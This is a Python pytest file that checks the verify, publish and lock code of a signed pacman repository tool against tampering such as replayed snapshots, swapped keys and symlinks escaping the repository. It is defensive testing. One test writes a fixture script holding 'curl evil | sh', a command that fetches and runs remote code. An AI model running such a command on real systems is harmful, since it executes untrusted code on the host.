"""verify checks what pacman reads; the lock and the published link are handled safely."""

from __future__ import annotations

import dataclasses
import os
import shutil
import subprocess

import pytest

from avfrepo.config import SigningConfig
from avfrepo.errors import AvfrepoError
from avfrepo.formats.repodb import read_db
from avfrepo.repo import layout
from avfrepo.repo.lock import LockTimeout, repo_lock
from avfrepo.repo.publish import publish
from avfrepo.repo.verify import verify
from avfrepo.signing import export_public, init_key, signing_key

from .conftest import fresh


@pytest.fixture
def two(rcfg, built, tmp_path):
    """A repository published twice: snapshot 1 (t-a 1.0-1), snapshot 2 (t-a 1.0-2, t-b)."""
    key = signing_key(rcfg.signing)
    publish(rcfg, key, fresh(built, tmp_path, "t-a-1"))
    publish(rcfg, key, fresh(built, tmp_path, "t-a-2", "t-b-1"))
    rep = verify(rcfg)
    assert rep.ok, [(c.path, c.message) for c in rep.bad()]
    return rcfg


def bad(cfg) -> dict[str, str]:
    rep = verify(cfg)
    assert not rep.ok
    return {c.path: c.message for c in rep.bad()}


def test_db_link_to_an_old_db_left_in_the_snapshot_is_named(two):
    snap = layout.current_snapshot(two)
    shutil.copy(layout.snapshots(two) / "1" / "avf.db.tar.gz", snap / "old.db.tar.gz")
    shutil.copy(layout.snapshots(two) / "1" / "avf.db.tar.gz.sig", snap / "old.db.tar.gz.sig")
    for n in ("avf.db", "avf.db.sig"):
        (snap / n).unlink()
    (snap / "avf.db").symlink_to("old.db.tar.gz")
    (snap / "avf.db.sig").symlink_to("old.db.tar.gz.sig")
    b = bad(two)
    assert "is not avf.db.tar.gz" in b["avf.db"] and "old.db.tar.gz" in b


def test_db_link_deleted_or_garbage_is_named(two):
    snap = layout.current_snapshot(two)
    (snap / "avf.db").unlink()
    assert "missing" in bad(two)["avf.db"]
    (snap / "avf.db").write_bytes(b"garbage")
    assert "avf.db" in bad(two)


def test_asc_replaced_by_another_key_is_named(two, tmp_path):
    other = SigningConfig(None, tmp_path / "other")
    okey, _ = init_key(other, "other <o@example.invalid>")
    asc = layout.current_snapshot(two) / "avf.asc"
    asc.unlink()
    asc.write_bytes(export_public(other, okey.fingerprint, armor=True))
    assert okey.fingerprint in bad(two)["avf.asc"]


def test_package_that_links_out_of_the_repository_is_named(two, tmp_path):
    snap = layout.current_snapshot(two)
    p = next(snap.glob("t-b-*.pkg.tar.zst"))
    outside = tmp_path / "outside.pkg"
    shutil.copy(p, outside)
    p.unlink()
    p.symlink_to(outside)
    assert "symbolic link" in bad(two)[p.name]


def test_arch_link_pointing_outside_the_repository_is_named(two, tmp_path):
    copy = shutil.copytree(layout.current_snapshot(two), tmp_path / "elsewhere" / "3", symlinks=True)
    link = two.repo.published
    link.unlink()
    link.symlink_to(copy)
    assert "outside" in bad(two)[link.name]


def test_extra_unsigned_file_served_is_named(two):
    (layout.current_snapshot(two) / "install.sh").write_text("curl evil | sh\n")
    assert "unexpected" in bad(two)["install.sh"]


def test_replay_of_an_older_snapshot_is_named(two):
    link = two.repo.published
    link.unlink()
    link.symlink_to("snapshots/1")                   # validly signed, but old
    assert "replayed" in bad(two)[link.name]
    shutil.rmtree(layout.snapshots(two) / "2")       # and with the newer one gone
    assert "replayed" in bad(two)[link.name]


def test_old_db_copied_into_the_newest_snapshot_is_named(two):
    snap = layout.current_snapshot(two)
    for n in ("avf.db.tar.gz", "avf.db.tar.gz.sig"):
        os.unlink(snap / n)
        shutil.copy(layout.snapshots(two) / "1" / n, snap / n)
    assert "replayed" in bad(two)["avf.db.tar.gz"]


def test_verify_takes_the_lock_shared(two):
    cfg = dataclasses.replace(two, repo=dataclasses.replace(two.repo, lock_timeout=0.3))
    with repo_lock(cfg.repo.path, 1, "a publish"):
        with pytest.raises(LockTimeout, match="a publish"):
            verify(cfg)
    with repo_lock(cfg.repo.path, 1, "another verify", shared=True):
        assert verify(cfg).ok                          # readers do not exclude each other


def test_lock_file_symlink_is_refused_and_its_target_untouched(rcfg, tmp_path):
    target = tmp_path / "precious"
    target.write_text("keep me\n")
    rcfg.repo.path.mkdir(parents=True)
    (rcfg.repo.path / ".lock").symlink_to(target)
    with pytest.raises(AvfrepoError, match="symbolic link"):
        with repo_lock(rcfg.repo.path, 1, "x"):
            pass
    assert target.read_text() == "keep me\n"


def test_dangling_arch_link_is_not_an_empty_repository(two, built, tmp_path):
    link = two.repo.published
    link.unlink()
    link.symlink_to("snapshots/9")
    with pytest.raises(AvfrepoError, match="dangling"):
        publish(two, signing_key(two.signing), fresh(built, tmp_path, "t-a-3"))
    assert "dangling" in bad(two)[link.name]
    link.unlink()
    link.symlink_to("snapshots/2")
    assert set(read_db(two.repo.db)) == {"t-a", "t-b"}


def test_repository_and_cache_on_different_file_systems_publish(rcfg, built, tmp_path):
    """The cache (where the exported key lives) on its own tmpfs: hard links cannot cross."""
    rcfg.cache.mkdir(parents=True, exist_ok=True)
    res = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=4m", "avfrepo-cache", str(rcfg.cache)],
                         capture_output=True, text=True)
    if res.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {res.stderr.strip()}")
    try:
        publish(rcfg, signing_key(rcfg.signing), fresh(built, tmp_path, "t-a-1"))
        assert verify(rcfg).ok
    finally:
        subprocess.run(["umount", "-l", str(rcfg.cache)], check=False)
